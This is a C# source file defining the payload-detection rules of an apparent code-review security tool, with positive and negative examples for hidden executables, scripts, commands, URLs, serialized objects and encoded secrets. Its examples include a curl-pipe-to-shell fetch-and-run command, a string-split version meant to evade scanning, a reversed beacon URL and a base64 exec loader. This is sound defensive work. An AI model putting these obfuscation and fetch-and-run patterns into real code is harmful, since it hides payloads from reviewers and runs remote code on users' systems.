using System.Collections.Immutable;
using System.Text;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.Payloads;

/// <summary>The rules of the payload detector, gravest first.</summary>
internal static class PayloadRules
{
    private const string Cwe506 = "https://cwe.mitre.org/data/definitions/506.html";
    private const string ImageUri = "data:image/png;base64,";

    /// <summary>A program in machine code or bytecode.</summary>
    public static RuleInfo Executable { get; } = new()
    {
        Id = "hidden-executable",
        Category = Category.Payload,
        Severity = Severity.High,
        Title = "executable",
        Why = "A reader cannot see what this text does; decoded, it is a program.",
        Do = "Drop it, or build the program from source and fetch it by its digest.",
        Reference = "https://attack.mitre.org/techniques/T1027/009/",
        Positives = [Quoted(Base64([0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[64]])), new($"payload = [{string.Join(", ", "MZ"u8.ToArray().Concat(new byte[62]))}]\n", "src/a.py")],
        Negatives = [Quoted(ImageUri + Base64([0x89, .. "PNG\r\n\u001A\n"u8, .. new byte[64]]))],
    };

    /// <summary>Program text, or commands over several lines.</summary>
    public static RuleInfo Script { get; } = new()
    {
        Id = "hidden-script",
        Category = Category.Payload,
        Severity = Severity.High,
        Title = "script",
        Why = "A reader cannot see what this text does; decoded, it is a script.",
        Do = "Replace it by readable code, or drop it.",
        Reference = "https://attack.mitre.org/techniques/T1027/010/",
        Positives = [Quoted(Base64("#!/bin/sh\necho hello\n"u8)), Quoted(Convert.ToHexString("<?php echo 'hello';"u8)), Quoted(Escaped("console.log('hello')"))],
        Negatives = [Quoted(Base64("The quick brown fox jumps over the lazy dog."u8)), Quoted("#!/bin/sh echo this is plain to see")],
    };

    /// <summary>A command line.</summary>
    public static RuleInfo Command { get; } = Script with
    {
        Id = "hidden-command",
        Title = "command",
        Why = "A reader cannot see what this text does; decoded, it is a command line.",
        Positives = [Quoted(Base64("curl -s http://198.51.100.7/x | sh"u8)), new("run('cu' + 'rl -s htt' + 'p://198.51.100.7/x | s' + 'h')")],
        Negatives = [Quoted(Base64("curly hair and shells on the beach"u8)), new("say('run ' + 'curl -s http://198.51.100.7/x | sh')")],
    };

    /// <summary>A URL or an address.</summary>
    public static RuleInfo Url { get; } = new()
    {
        Id = "hidden-url",
        Category = Category.Payload,
        Severity = Severity.High,
        Title = "URL",
        Why = "The code names a host that a reader cannot see and no search for it finds.",
        Do = "Write the URL out, or drop it.",
        Reference = "https://attack.mitre.org/techniques/T1027/",
        Positives = [Quoted(Base64("https://drop.example.net/beacon?id=1"u8)), new("const h = 'daolyap/ten.elpmaxe//:sptth'.split('').reverse().join('')", "src/a.js")],
        Negatives = [Quoted("next=https%3A%2F%2Fexample.net%2Fcallback%3Fid%3D1"), Quoted(Base64("<svg xmlns=\"http://www.w3.org/2000/svg\"/>"u8))],
    };

    /// <summary>A packed file.</summary>
    public static RuleInfo Archive { get; } = new()
    {
        Id = "hidden-archive",
        Category = Category.Payload,
        Severity = Severity.Medium,
        Title = "archive",
        Why = "A reader cannot see the files in it, and code that unpacks them may run them.",
        Do = "Keep the files as files.",
        Reference = "https://attack.mitre.org/techniques/T1027/009/",
        Positives = [Quoted(Base64([0xFD, .. "7zXZ\0"u8, .. new byte[40]]))],
        Negatives = [Quoted("application/zip"), Quoted(Base64("PK is short for primary key in this text."u8))],
    };

    /// <summary>Objects that code of their own choice rebuilds.</summary>
    public static RuleInfo Object { get; } = new()
    {
        Id = "hidden-object",
        Category = Category.Payload,
        Severity = Severity.Medium,
        Title = "serialized object",
        Why = "Reading such an object back runs code that the object names.",
        Do = "Write the data as JSON, or build the object in code.",
        Reference = "https://cwe.mitre.org/data/definitions/502.html",
        Positives = [Quoted(Base64([0xAC, 0xED, 0x00, 0x05, .. "sr\0\u0011java.util.HashMap"u8])), Quoted(Base64("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"u8))],
        Negatives = [Quoted(Base64("a:1:{i:0;s:5:\"hello\";}"u8))],
    };

    /// <summary>A credential, encoded.</summary>
    public static RuleInfo Secret { get; } = new()
    {
        Id = "hidden-secret",
        Category = Category.Secret,
        Severity = Severity.High,
        Title = "encoded secret",
        Why = "Encoding is no encryption: whoever can read the repository can decode it and use it, now and later.",
        Do = "Read it from the environment or a secret store, and revoke it where it was issued.",
        Reference = "https://cwe.mitre.org/data/definitions/312.html",
        Positives = [Quoted(Base64(Encoding.UTF8.GetBytes("postgres://app:" + "Gr8ten-Wald" + "@db.internal:5432/shop")))],
        Negatives = [Quoted(Base64("postgres://app:${PASSWORD}@db.internal:5432/shop"u8))],
    };

    /// <summary>Bytes that nothing explains.</summary>
    public static RuleInfo Opaque { get; } = new()
    {
        Id = "opaque-text",
        Category = Category.Payload,
        Severity = Severity.Low,
        Title = "bytes that nothing explains",
        Why = "Nobody can tell what it is: it may be data, or encrypted code that another part of the change runs.",
        Do = "Say where it comes from, or keep it as a file that a build step makes.",
        Reference = Cwe506,
        Positives = [new($"exec(decrypt(base64.b64decode('{Base64(Noise(96))}')))", "src/a.py"), new($"TABLE = \"{Base64(Noise(2048))}\"", "src/a.py")],
        Negatives = [new($"digest = \"{Base64(Noise(64))}\"", "src/a.py"), new($"{{ \"integrity\": \"sha512-{Base64(Noise(64))}\" }}", "package-lock.json")],
    };

    /// <summary>All of them.</summary>
    public static ImmutableArray<RuleInfo> All { get; } = [Executable, Script, Command, Url, Archive, Object, Secret, Opaque];

    private static RuleExample Quoted(string text) => new($"value = \"{text}\"\n");

    private static string Base64(ReadOnlySpan<byte> bytes) => Convert.ToBase64String(bytes);

    private static string Escaped(string text) => string.Concat(text.Select(static letter => $"\\x{(int)letter:x2}"));

    /// <summary>Bytes that look like chance and are always the same.</summary>
    private static byte[] Noise(int length)
    {
        var bytes = new byte[length];
        var state = 2463534242u;
        for (var i = 0; i < length; i++)
        {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            bytes[i] = (byte)(state >> 11);
        }

        return bytes;
    }
}
